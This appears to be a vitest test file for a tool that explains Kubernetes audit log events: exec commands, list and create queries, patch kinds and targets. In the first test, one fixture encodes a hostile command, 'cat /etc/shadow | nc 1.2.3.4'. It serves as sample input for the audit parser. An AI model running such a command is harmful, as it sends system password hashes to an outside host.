import { describe, expect, it } from 'vitest';
import { makeEvent, makeExec, makeSecrets, statementsOn, textsOn } from '../test-data/judge.ts';

const what = (event: Parameters<typeof textsOn>[1], lost: readonly string[] = []): readonly string[] =>
  textsOn('What', event, lost);

describe('the command of an exec', () => {
  it('is put together from the query, decoded and quoted', () => {
    const query = '?command=sh&command=-c&command=cat%20%2Fetc%2Fshadow%20%7C+nc+%271.2.3.4%27&container=app&stdin=true&tty=true';
    expect(what(makeExec(query))).toEqual([
      'get pods/exec: run a command in the target',
      "Command: sh -c 'cat /etc/shadow | nc '\\''1.2.3.4'\\'''",
      'In container app',
      'With a terminal and standard input: what is typed and shown in the session is not in the audit log',
      'Over WebSocket, as kubectl does since 1.31',
    ]);
  });

  it('is unknown where the URI or its query is missing', () => {
    for (const event of [makeExec(''), makeExec('', { requestURI: undefined })]) {
      expect(statementsOn('What', event)[1]).toMatchObject({
        certainty: 'unknown',
        text: expect.stringMatching(/^Command and container are unknown/),
      });
    }
  });

  it('tells SPDY from WebSocket by the verb', () => {
    expect(what(makeExec('?command=id', { verb: 'create' }))).toContain('Over SPDY, as kubectl did before 1.31');
  });
});

describe('the query', () => {
  it('is read where it narrows the request or names its manager', () => {
    const listed = makeSecrets('list', {
      requestURI: '/api/v1/namespaces/n/secrets?labelSelector=app%3Dx&limit=500&continue=abc',
    });
    expect(what(listed)).toEqual([
      'list secrets',
      'Only objects with labels app=x',
      'At most this many in the answer: 500',
      'A further page of a longer list: each page has a record of its own',
    ]);
    const created = makeSecrets('create', { requestURI: '/api/v1/namespaces/n/secrets?fieldManager=me&dryRun=All' });
    expect(what(created)).toContain('Asks for a dry run: nothing is to be stored');
    expect(statementsOn('What', created).find(({ text }) => text === 'Field manager me')).toMatchObject({
      clientControlled: true,
    });
  });
});

describe('the body', () => {
  const patch = (requestObject: unknown, query = '', more = {}): readonly string[] =>
    what(
      makeSecrets('patch', { level: 'Request', requestURI: `/api/v1/namespaces/n/secrets/s${query}`, requestObject, ...more }),
    ).slice(1);

  it('tells the kinds of patch apart as far as the record does', () => {
    expect(patch([{ op: 'add', path: '/metadata/labels/j', value: '1' }])).toEqual([
      'A JSON Patch',
      'Changes add /metadata/labels/j',
    ]);
    expect(patch({ metadata: { annotations: { s: null } } })).toEqual([
      'A merge patch, strategic or not: the record does not tell which',
      'Touches metadata.annotations.s (removed)',
    ]);
    expect(patch({ spec: { $setElementOrder: 1, '$setElementOrder/x': [], a: 1 } })[0]).toBe('A strategic merge patch');
    const applied = { apiVersion: 'v1', kind: 'Secret', metadata: { name: 's', labels: { a: '1' } } };
    expect(patch(applied, '?fieldManager=ssa&force=true')).toContain('A server-side apply by field manager ssa, with force');
    expect(patch(applied, '?fieldManager=ssa')[1]).toMatch(/^A server-side apply by field manager ssa, or/);
  });

  it('is unknown, with the reason, where the record has none', () => {
    expect(patch(undefined, '', { level: 'Metadata' })).toEqual([
      'What the patch changes is unknown: level Metadata has no bodies',
    ]);
    expect(patch(undefined, '', { annotations: { 'audit.k8s.io/truncated': 'true' } })).toEqual([
      'What the patch changes is unknown: the record was cut for its size',
    ]);
    expect(what(makeSecrets('patch'), ['requestObject']).at(-1)).toBe(
      'What the patch changes is unknown: the wrapper leaves it out',
    );
    expect(patch(undefined, '', { responseStatus: { code: 403 } })).toEqual([]);
  });

  it('is read with what the wrapper takes from it', () => {
    const event = makeSecrets('create', { level: 'Request', requestObject: { kind: 'Secret', data: { a: 'b' } } });
    expect(what(event, ['requestObject.metadata'])).toEqual([
      'create secrets',
      'The body (Secret) has data',
      'The wrapper leaves out requestObject.metadata',
    ]);
  });

  it('of a patch touches what the wrapper carries, and perhaps more', () => {
    const event = makeSecrets('patch', { level: 'Request', requestObject: {} });
    expect(what(event, ['requestObject.metadata'])).toContain('Touches nothing, as far as the wrapper carries it');
    expect(what(makeSecrets('patch', { level: 'Request' }), ['requestObject.metadata']).at(-1)).toMatch(
      /leaves out a part, and nothing else is there$/,
    );
  });

  it.each([[5], [true], ['skipped-too-big-size-object'], [[]], [{}], [[5, null]]])(
    'is no stumbling block as %j',
    (requestObject) => {
      expect(patch(requestObject).length).toBeGreaterThan(0);
    },
  );
});

describe('the target', () => {
  it('is named with group, version and UID, and by its path where it is no resource', () => {
    const objectRef = { resource: 'pods', namespace: 'n', name: 'web', apiVersion: 'v1', uid: 'u1' };
    expect(textsOn('Target', makeEvent({ objectRef }))).toEqual([
      'Pod web in namespace n',
      'Core API group, version v1',
      'UID u1',
    ]);
    expect(textsOn('Target', makeEvent({ objectRef: undefined, requestURI: '/healthz?verbose' }))).toEqual([
      'Path /healthz, which is no resource',
    ]);
  });
});
